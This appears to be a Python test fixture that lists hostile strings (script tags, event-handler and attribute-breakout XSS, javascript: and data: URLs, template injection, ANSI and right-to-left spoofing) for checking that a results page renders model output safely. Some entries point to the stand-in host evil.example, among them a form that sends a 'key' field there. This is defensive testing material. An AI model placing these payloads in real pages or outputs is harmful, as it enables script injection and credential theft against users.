"""Texts that a model, a judge or an environment could write to take over the page that shows them."""

from __future__ import annotations

LINE = "x" * 1_000_000
TEXTS: dict[str, str] = {
    "script": "<script>window.hostile = 1</script>",
    "script with a source": '<script src="https://evil.example/x.js"></script>',
    "event handler": '<img src=x onerror="window.hostile = 2">',
    "svg handler": "<svg onload=window.hostile=3>",
    "closes its element": "</div></article></main><script>window.hostile = 4</script>",
    "closes style": "</style><script>window.hostile = 5</script>",
    "closes title": "</title><script>window.hostile = 6</script>",
    "closes an attribute": '" autofocus onfocus="window.hostile = 7" x="',
    "closes an attribute, single": "' onmouseover='window.hostile = 8' x='",
    "template": "{{ 7 * 7 }}{% for x in y %}{{ config }}",
    "template literal": "${window.hostile = 9}",
    "javascript link": '<a href="javascript:window.hostile = 10">click</a>',
    "javascript url alone": "javascript:window.hostile=11",
    "data url": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xMjwvc2NyaXB0Pg==",
    "data url as a picture": '<img src="data:image/svg+xml,<svg onload=window.hostile=13>">',
    "iframe": '<iframe srcdoc="<script>parent.hostile = 14</script>"></iframe>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=key><button>go</button></form>',
    "style": "<style>body { display: none }</style>",
    "comment": "<!-- <script>window.hostile = 15</script> -->",
    "entities": "&lt;script&gt;window.hostile = 16&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "ansi": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "right to left": "abc\u202egnp.exe\u202c \u2066isolated\u2069 \u200fmark",
    "control characters": "a\x01b\x08c\x0bd\x7fe\x9bf\x85g",
    "one long line": LINE,
    "utf-7": "+ADw-script+AD4-window.hostile = 17+ADw-/script+AD4-",
    "line separators": "a\u2028window.hostile = 18\u2029b",
    "markdown": "[click](javascript:window.hostile=19) ![x](https://evil.example/x.png)",
}
